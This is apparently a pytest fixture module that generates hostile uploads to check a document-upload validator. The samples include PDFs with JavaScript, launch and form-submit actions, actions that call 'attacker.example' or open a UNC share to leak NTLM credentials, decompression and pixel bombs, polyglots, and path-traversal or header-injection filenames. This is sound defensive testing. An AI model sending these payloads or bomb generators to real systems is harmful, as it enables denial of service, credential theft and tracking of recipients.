"""A corpus of hostile uploads, built on the fly, and what every entry point must answer for each.

Each ``Case`` is one file a citizen, a clerk or an agent could upload: broken, encrypted, active
(JavaScript, launch actions, attached files), oversized in pages, pixels or inflated bytes,
polyglot, disguised behind a trusted name and content type, empty, or with a filename playing
Unicode, path or header tricks. ``refused`` is the bilingual ``error.*`` code expected; otherwise
the file is accepted and ``stored`` is the exact filename kept for it.

Bombs are built in milliseconds from repeated compressed blocks (about 1 MB on the wire for 1 GB
inflated); builders are cached so the corpus is built once per test session. ``measure()`` gives
the wall time and peak memory of handling one upload.
"""

from __future__ import annotations

import io
import os
import struct
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from functools import cache

from PIL import Image

from tests.files import encrypted_pdf, jpeg_bytes, pdf_bytes, png_bytes

GB = 1024**3


# ---------------------------------------------------------------------------------- raw PDF writer


def raw_pdf(
    objects: dict[int, bytes],
    *,
    root: int = 1,
    object_streams: tuple[tuple[int, ...], ...] = (),
    object_stream_padding: int = 0,
    free_entries: int = 0,
) -> bytes:
    """A PDF from hand-written object bodies (``{number: b"<< ... >>"}``), with a correct cross-reference.

    Each group of ``object_streams`` is packed, compressed, into one object stream and the
    cross-reference becomes a (compressed) xref stream, as modern writers do: content a naive byte
    scan of the file cannot see. ``object_stream_padding`` spaces follow the packed objects, and
    about ``free_entries`` unused entries the cross-reference (bombs).
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    rows: dict[int, tuple[int, int, int]] = {}  # number -> (xref type, offset or stream, index)
    packed = {n for group in object_streams for n in group}
    for num, body in objects.items():
        if num not in packed:
            rows[num] = (1, len(out), 0)
            out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    size = max(objects) + 1
    if not object_streams:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        out += b"".join(
            b"%010d 00000 n \n" % rows[n][1] if n in rows else b"0000000000 65535 f \n" for n in range(1, size)
        )
        out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
        return bytes(out)
    for group in object_streams:
        stm, size = size, size + 1
        header, body = b"", b""
        for i, num in enumerate(group):
            rows[num] = (2, stm, i)
            header += b"%d %d " % (num, len(body))
            body += objects[num] + b"\n"
        data = _deflate(header + body, object_stream_padding)
        rows[stm] = (1, len(out), 0)
        out += (
            b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (stm, len(group), len(header), len(data))
            + data
            + b"\nendstream\nendobj\n"
        )
    rows[size] = (1, len(out), 0)  # the xref stream itself
    free = b"\x00" * 7 * 65536  # 65,536 free entries
    padding = free_entries // 65536 * len(free)
    entries = size + 1 + padding // 7
    xref_data = _deflate(
        b"".join(struct.pack(">BIH", *rows.get(n, (0, 0, 65535))) for n in range(size + 1)), padding, free
    )
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode /Length %d >>\n"
        b"stream\n"
        % (size, entries, root, len(xref_data))
        + xref_data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % rows[size][1]
    )
    return bytes(out)


def _one_page(
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    extra: dict[int, bytes] | None = None,
    content: bytes = b"BT /F1 12 Tf 72 720 Td (Lettre) Tj ET",
    **kw,
) -> bytes:
    """A valid one-page letter (objects 1-5) with extra catalog/page entries and objects 10+."""
    stream = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        4: stream,
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **(extra or {}),
    }
    return raw_pdf(objects, **kw)


def _deflate(prefix: bytes, padding: int, chunk: bytes = b" " * (1 << 20)) -> bytes:
    """A zlib stream of ``prefix`` then ``padding`` bytes of ``chunk``, built in milliseconds: after a
    full flush the compressor starts afresh, so every further ``chunk`` compresses to the same block."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = comp.compress(prefix) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    count = padding // len(chunk)
    checksum = zlib.adler32(prefix)
    for _ in range(count):
        checksum = zlib.adler32(chunk, checksum)
    return b"\x78\xda" + head + block * count + comp.flush() + struct.pack(">I", checksum)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, idat: bytes, mode: int = 2, extra_chunks: bytes = b"") -> bytes:
    """A PNG from its parts (``mode``: 2 RGB, 6 RGBA; 8 bits per sample)."""
    header = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, mode, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + extra_chunks + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def _zip(name: str = "payload.exe", data: bytes = b"MZ\x90\x00 payload") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr(name, data)
    return out.getvalue()


# ---------------------------------------------------------------------------------- the corpus


@cache
def truncated_pdf() -> bytes:
    data = pdf_bytes(3)
    return data[: len(data) * 2 // 3]


@cache
def javascript_open_action() -> bytes:
    return _one_page(b"/OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\)) >> ")


@cache
def javascript_name_tree() -> bytes:
    return _one_page(
        b"/Names << /JavaScript << /Names [(init) 10 0 R] >> >> ",
        extra={10: b"<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'x'}\\)) >>"},
    )


@cache
def javascript_in_compressed_outline() -> bytes:
    """JavaScript on a bookmark, hidden in a compressed object stream, its names hex-escaped."""
    return _one_page(
        b"/Outlines 10 0 R ",
        extra={
            10: b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
            11: b"<< /Title (Ouvrir) /Parent 10 0 R /A << /#53 /Java#53cript /J#53 (app.launchURL\\('x'\\)) >> >>",
        },
        object_streams=((10, 11),),
    )


@cache
def launch_action_link() -> bytes:
    return _one_page(
        page_extra=b"/Annots [10 0 R] ",
        extra={
            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
            b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
        },
    )


@cache
def page_open_javascript() -> bytes:
    """Additional action run when the page opens (``/AA /O``)."""
    return _one_page(
        page_extra=b"/AA << /O << /S /JavaScript /JS 10 0 R >> >> ",
        extra={10: b"<< /Length 9 >>\nstream\napp.beep()\nendstream"},
    )


@cache
def embedded_file() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.add_attachment("facture.exe", b"MZ\x90\x00 payload")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@cache
def uri_link_and_destination() -> bytes:
    """Harmless interactivity a letter may carry: a web link and an open-at-page-1 destination."""
    return _one_page(
        b"/OpenAction [3 0 R /Fit] ",
        page_extra=b"/Annots [10 0 R] ",
        extra={
            10: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.mrasla.ma) "
            b">> >>",
        },
    )


# Actions that reach out. ``UNC``: a PDF literal string holding the share path \\attacker.example\share\x.pdf.
UNC = b"(\\\\\\\\attacker.example\\\\share\\\\x.pdf)"


@cache
def submit_form_open_action() -> bytes:
    """Posts the form (and the reader's address) to a server as soon as the file opens."""
    return _one_page(b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/c) >> /Flags 4 >> ")


@cache
def import_data_page_open() -> bytes:
    return _one_page(page_extra=b"/AA << /O << /S /ImportData /F (https://attacker.example/d.fdf) >> >> ")


@cache
def uri_open_action() -> bytes:
    """Opens a tracking address by itself (web bug: tells the sender who opened the letter, and when)."""
    return _one_page(b"/OpenAction << /S /URI /URI (https://attacker.example/opened?id=1) >> ")


@cache
def uri_after_goto_open_action() -> bytes:
    """A harmless-looking open action whose ``/Next`` opens an address."""
    return _one_page(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://attacker.example/n) >>] >> "
    )


@cache
def uri_document_close_action() -> bytes:
    return _one_page(b"/AA << /WC << /S /URI /URI (https://attacker.example/closed) >> >> ")


@cache
def uri_on_link_hover() -> bytes:
    """A link whose additional action (mouse enters, ``/AA /E``) opens an address without a click."""
    return _one_page(
        page_extra=b"/Annots [10 0 R] ",
        extra={
            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://www.mrasla.ma) >> "
            b"/AA << /E << /S /URI /URI (https://attacker.example/hover) >> >> >>",
        },
    )


@cache
def uri_shared_by_link_and_open_action() -> bytes:
    """One action object, both a link's (allowed) and the open action (not): seen once as each."""
    return _one_page(
        b"/OpenAction 10 0 R ",
        page_extra=b"/Annots [11 0 R] ",
        extra={
            10: b"<< /S /URI /URI (https://attacker.example/opened) >>",
            11: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 10 0 R >>",
        },
    )


@cache
def goto_remote_unc_link() -> bytes:
    """A link into a PDF on a network share: Windows sends the clerk's NTLM credentials to the host."""
    return _one_page(
        page_extra=b"/Annots [10 0 R] ",
        extra={
            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>",
        },
    )


@cache
def goto_embedded_open_action() -> bytes:
    return _one_page(b"/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (x.pdf) >> >> ")


@cache
def unc_uri_link() -> bytes:
    return _one_page(
        page_extra=b"/Annots [10 0 R] ",
        extra={
            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI " + UNC + b" >> >>",
        },
    )


@cache
def file_uri_link() -> bytes:
    return _one_page(
        page_extra=b"/Annots [10 0 R] ",
        extra={
            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI "
            b"(file://attacker.example/s/x) >> >>",
        },
    )


@cache
def mailto_link_and_bookmark() -> bytes:
    """Ordinary links a letter may carry: a mailto link and a bookmark to a web page."""
    return _one_page(
        b"/Outlines 11 0 R ",
        page_extra=b"/Annots [10 0 R] ",
        extra={
            10: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (mailto:bo@mef.gov.ma) >> "
            b">>",
            11: b"<< /Type /Outlines /First 12 0 R /Last 12 0 R /Count 1 >>",
            12: b"<< /Title (Site) /Parent 11 0 R /A << /S /URI /URI (https://www.mrasla.ma) >> >>",
        },
    )


@cache
def thousands_of_pages(count: int = 5000) -> bytes:
    kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(count))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
    }
    objects.update({10 + i: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>" for i in range(count)})
    return raw_pdf(objects)


@cache
def page_count_lie(count: int = 5000) -> bytes:
    """5,000 pages in the tree while ``/Count`` claims one."""
    data = thousands_of_pages(count)
    return data.replace(b"/Count %d" % count, b"/Count 1" + b" " * (len(str(count)) - 1), 1)


@cache
def page_tree_loop() -> bytes:
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
        }
    )


@cache
def flate_bomb_page() -> bytes:
    """A page whose content stream inflates to 1 GB (about 1 MB on the wire)."""
    bomb = _deflate(b"", GB)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream"
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            4: stream,
        }
    )


@cache
def object_stream_bomb() -> bytes:
    """The page tree itself sits in an object stream inflating to 1 GB: any reader must inflate it."""
    return _one_page(object_streams=((2, 3),), object_stream_padding=GB)


@cache
def object_streams_adding_up() -> bytes:
    """Eight object streams of 12 MB each: every one under a per-stream limit, 96 MB together."""
    numbers = range(10, 18)
    return _one_page(
        b"/Junk [" + b" ".join(b"%d 0 R" % n for n in numbers) + b"] ",
        extra={n: b"<< /N %d >>" % n for n in numbers},
        object_streams=tuple((n,) for n in numbers),
        object_stream_padding=12 << 20,
    )


@cache
def xref_stream_bomb() -> bytes:
    """A cross-reference stream of ten million entries (70 MB decoded, 70 KB on the wire)."""
    return _one_page(object_streams=((5,),), free_entries=10_000_000)


@cache
def many_objects(count: int = 30_000) -> bytes:
    """30,000 tiny objects, all reachable from the catalogue."""
    numbers = range(10, 10 + count)
    return _one_page(
        b"/Junk [" + b" ".join(b"%d 0 R" % n for n in numbers) + b"] ", extra={n: b"[%d]" % n for n in numbers}
    )


@cache
def deep_nesting(depth: int = 100_000) -> bytes:
    return _one_page(b"/Junk " + b"[" * depth + b"]" * depth + b" ")


@cache
def png_pixel_bomb() -> bytes:
    """Declares 100,000 × 100,000 pixels (30 GB decoded) in a few bytes."""
    return _png(100_000, 100_000, zlib.compress(b"\x00" * 1024))


@cache
def jpeg_pixel_bomb() -> bytes:
    """A real JPEG whose frame header is patched to 65,000 × 65,000 pixels."""
    data = bytearray(jpeg_bytes((64, 64)))
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(data)


@cache
def png_idat_bomb() -> bytes:
    """A small 2,000 × 2,000 image whose compressed pixel data inflates to 1 GB."""
    return _png(2000, 2000, _deflate(b"", GB, b"\x00" * (1 << 20)))


@cache
def png_text_bomb() -> bytes:
    """A compressed text chunk (zTXt) inflating to 1 GB in front of a valid image."""
    text = _png_chunk(b"zTXt", b"Comment\x00\x00" + _deflate(b"", GB, b"A" * (1 << 20)))
    return _png(64, 64, zlib.compress((b"\x00" + b"\x80" * 192) * 64), extra_chunks=text)


@cache
def png_at_pixel_limit() -> bytes:
    """6,300 × 6,300 RGBA (39.7 megapixels, just under the limit): 160 MB decoded, 150 KB on the wire."""
    row = b"\x00" + b"\x00" * 4 * 6300
    return _png(6300, 6300, _deflate(b"", len(row) * 6300, row), mode=6)


@cache
def jpeg_at_pixel_limit() -> bytes:
    """6,300 × 6,300 (39.7 megapixels, just under the limit): 160 MB if decoded at full size."""
    return jpeg_bytes((6300, 6300))


@cache
def jpeg_many_scans(scans: int = 5000) -> bytes:
    """A progressive JPEG whose last scan is repeated thousands of times: each scan costs a full decoding pass."""
    out = io.BytesIO()
    Image.new("RGB", (1024, 1024), "teal").save(out, format="JPEG", progressive=True)
    data = out.getvalue()
    last = data.rfind(b"\xff\xda")
    scan = data[last:-2]
    return data[:-2] + scan * scans + b"\xff\xd9"


@cache
def truncated_jpeg() -> bytes:
    data = jpeg_bytes((800, 600))
    return data[: len(data) // 2]


@cache
def pdf_zip_polyglot() -> bytes:
    return pdf_bytes() + _zip()


@cache
def jpeg_zip_polyglot() -> bytes:
    return jpeg_bytes() + _zip()


@cache
def jpeg_with_pdf_inside() -> bytes:
    """A JPEG whose comment segment holds a whole PDF: PDF readers find ``%PDF-`` in the first KB."""
    data = jpeg_bytes()
    pdf = _one_page()[:60000]
    comment = b"\xff\xfe" + struct.pack(">H", len(pdf) + 2) + pdf
    return data[:2] + comment + data[2:]


@cache
def html_then_pdf() -> bytes:
    return b"<html><body><script>fetch('/api/v1/auth/me')</script>\n" + pdf_bytes()


@cache
def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect/></svg>'


@cache
def gif_image() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 32), "red").save(out, format="GIF")
    return out.getvalue()


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00"


@dataclass(frozen=True)
class Case:
    """One hostile upload: refused with ``refused`` or accepted and kept as ``stored``."""

    id: str
    filename: str
    build: Callable[[], bytes]
    content_type: str = "application/pdf"
    refused: str | None = None
    stored: str | None = None


def _refused(id_: str, filename: str, build: Callable[[], bytes], code: str, ctype: str = "application/pdf") -> Case:
    return Case(id_, filename, build, ctype, refused=code)


def _named(id_: str, filename: str, stored: str) -> Case:
    return Case(id_, filename, pdf_bytes, stored=stored)


CASES: tuple[Case, ...] = (
    # broken, protected, active
    _refused("truncated-pdf", "lettre.pdf", truncated_pdf, "error.pdf_broken"),
    _refused("encrypted-pdf", "lettre.pdf", encrypted_pdf, "error.pdf_encrypted"),
    _refused("javascript-open-action", "lettre.pdf", javascript_open_action, "error.pdf_active_content"),
    _refused("javascript-name-tree", "lettre.pdf", javascript_name_tree, "error.pdf_active_content"),
    _refused("javascript-hidden-outline", "lettre.pdf", javascript_in_compressed_outline, "error.pdf_active_content"),
    _refused("javascript-page-open", "lettre.pdf", page_open_javascript, "error.pdf_active_content"),
    _refused("launch-action", "lettre.pdf", launch_action_link, "error.pdf_active_content"),
    _refused("embedded-file", "lettre.pdf", embedded_file, "error.pdf_active_content"),
    Case("link-and-destination", "lettre.pdf", uri_link_and_destination, stored="lettre.pdf"),
    # reaching out: form submission, data import, remote files and shares, addresses opened by themselves
    _refused("submitform-open-action", "lettre.pdf", submit_form_open_action, "error.pdf_active_content"),
    _refused("importdata-page-open", "lettre.pdf", import_data_page_open, "error.pdf_active_content"),
    _refused("uri-open-action", "lettre.pdf", uri_open_action, "error.pdf_active_content"),
    _refused("uri-next-of-open-action", "lettre.pdf", uri_after_goto_open_action, "error.pdf_active_content"),
    _refused("uri-document-close", "lettre.pdf", uri_document_close_action, "error.pdf_active_content"),
    _refused("uri-link-hover", "lettre.pdf", uri_on_link_hover, "error.pdf_active_content"),
    _refused(
        "uri-shared-link-open-action", "lettre.pdf", uri_shared_by_link_and_open_action, "error.pdf_active_content"
    ),
    _refused("gotor-unc-link", "lettre.pdf", goto_remote_unc_link, "error.pdf_active_content"),
    _refused("gotoe-open-action", "lettre.pdf", goto_embedded_open_action, "error.pdf_active_content"),
    _refused("unc-uri-link", "lettre.pdf", unc_uri_link, "error.pdf_active_content"),
    _refused("file-uri-link", "lettre.pdf", file_uri_link, "error.pdf_active_content"),
    Case("mailto-link-and-bookmark", "lettre.pdf", mailto_link_and_bookmark, stored="lettre.pdf"),
    # sizes
    _refused("5000-pages", "lettre.pdf", thousands_of_pages, "error.too_many_pages"),
    _refused("page-count-lie", "lettre.pdf", page_count_lie, "error.pdf_too_complex"),
    _refused("page-tree-loop", "lettre.pdf", page_tree_loop, "error.pdf_broken"),
    Case("flate-bomb-page", "lettre.pdf", flate_bomb_page, stored="lettre.pdf"),  # never inflated
    _refused("object-stream-bomb", "lettre.pdf", object_stream_bomb, "error.pdf_too_complex"),
    _refused("object-streams-adding-up", "lettre.pdf", object_streams_adding_up, "error.pdf_too_complex"),
    _refused("xref-stream-bomb", "lettre.pdf", xref_stream_bomb, "error.pdf_broken"),
    _refused("30000-objects", "lettre.pdf", many_objects, "error.pdf_too_complex"),
    _refused("deep-nesting", "lettre.pdf", deep_nesting, "error.pdf_broken"),
    _refused("png-pixel-bomb", "photo.png", png_pixel_bomb, "error.image_too_large", "image/png"),
    _refused("jpeg-pixel-bomb", "photo.jpg", jpeg_pixel_bomb, "error.image_too_large", "image/jpeg"),
    Case("png-idat-bomb", "photo.png", png_idat_bomb, "image/png", stored="photo.png"),  # read up to its size
    _refused("png-text-bomb", "photo.png", png_text_bomb, "error.image_broken", "image/png"),
    Case("png-at-pixel-limit", "photo.png", png_at_pixel_limit, "image/png", stored="photo.png"),
    Case("jpeg-at-pixel-limit", "photo.jpg", jpeg_at_pixel_limit, "image/jpeg", stored="photo.jpg"),
    _refused("jpeg-5000-scans", "photo.jpg", jpeg_many_scans, "error.image_broken", "image/jpeg"),
    _refused("truncated-jpeg", "photo.jpg", truncated_jpeg, "error.image_broken", "image/jpeg"),
    # polyglots and disguises
    _refused("pdf+zip", "lettre.pdf", pdf_zip_polyglot, "error.file_polyglot"),
    _refused("jpeg+zip", "photo.jpg", jpeg_zip_polyglot, "error.file_polyglot", "image/jpeg"),
    _refused("jpeg-holding-pdf", "photo.jpg", jpeg_with_pdf_inside, "error.file_polyglot", "image/jpeg"),
    _refused("html-then-pdf", "lettre.pdf", html_then_pdf, "error.file_type"),
    _refused("html-as-pdf", "lettre.pdf", lambda: b"<!DOCTYPE html><script>alert(1)</script>", "error.file_type"),
    _refused("exe-as-pdf", "lettre.pdf", lambda: EXE, "error.file_type"),
    _refused("exe-as-jpeg", "photo.jpg", lambda: EXE, "error.file_type", "image/jpeg"),
    _refused("zip-as-pdf", "lettre.pdf", _zip, "error.file_type"),
    _refused("svg-as-png", "photo.png", svg_with_script, "error.file_type", "image/png"),
    _refused("gif-as-jpeg", "photo.jpg", gif_image, "error.file_type", "image/jpeg"),
    _refused("empty", "lettre.pdf", lambda: b"", "error.file_empty"),
    # filenames
    _named("rtl-override", "facture\u202efdp.exe", "facturefdp.exe.pdf"),
    _named("zero-width", "re\u200bçu\u200d\ufeff.pdf", "reçu.pdf"),
    _named("parent-path", "../../../etc/passwd.pdf", "passwd.pdf"),
    _named("windows-path", "..\\..\\Windows\\win.ini", "win.ini.pdf"),
    _named("nul-byte", "lettre.pdf\x00.exe", "lettre.pdf.exe.pdf"),
    _named("header-injection", "a\r\nX-Evil: 1\r\n.pdf", "a X-Evil: 1.pdf"),
    _named("line-separators", "ligne\u2028un\u2029deux.pdf", "ligne un deux.pdf"),
    _named("very-long", "x" * 1000 + ".pdf", "x" * 116 + ".pdf"),  # (HTTP parsers refuse 4 KB headers)
    _named("only-dots", "..", "document.pdf"),
    _named("arabic", "طلب شهادة إدارية.pdf", "طلب شهادة إدارية.pdf"),
    _named("arabic-long", "ط" * 300 + ".PDF", "ط" * 116 + ".PDF"),
    _named("decomposed-accents", "Re\u0301sume\u0301.pdf", "Résumé.pdf"),
    Case("png-named-jpeg", "photo.jpg", png_bytes, "image/jpeg", stored="photo.png"),
)


# ---------------------------------------------------------------------------------- measuring


@dataclass
class Footprint:
    """Peak resident memory above the starting point and CPU time of a ``measure()`` block.

    CPU time of the process (not wall time): the bound is the work a hostile file costs the server,
    which a loaded machine (other suites, other workers) must not make look larger.
    """

    seconds: float = 0.0
    peak_mb: float = 0.0


def _rss() -> int:
    with open("/proc/self/statm") as fh:
        return int(fh.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


@contextmanager
def measure() -> Iterator[Footprint]:
    """Sample the process's resident memory every 5 ms while the block runs.

    Resident memory rather than ``tracemalloc``: the buffers of Pillow and zlib are allocated in C,
    where tracemalloc does not see them, and tracing would slow the measured code several times.
    Bomb-sized allocations are large, so they are mapped (and returned) whole: they always show.
    """
    result, start, peak = Footprint(), _rss(), [0]
    done = threading.Event()

    def sample() -> None:
        while not done.wait(0.005):
            peak[0] = max(peak[0], _rss())

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    began = time.process_time()
    try:
        yield result
    finally:
        result.seconds = time.process_time() - began
        done.set()
        sampler.join()
        result.peak_mb = max(0, max(peak[0], _rss()) - start) / 1e6
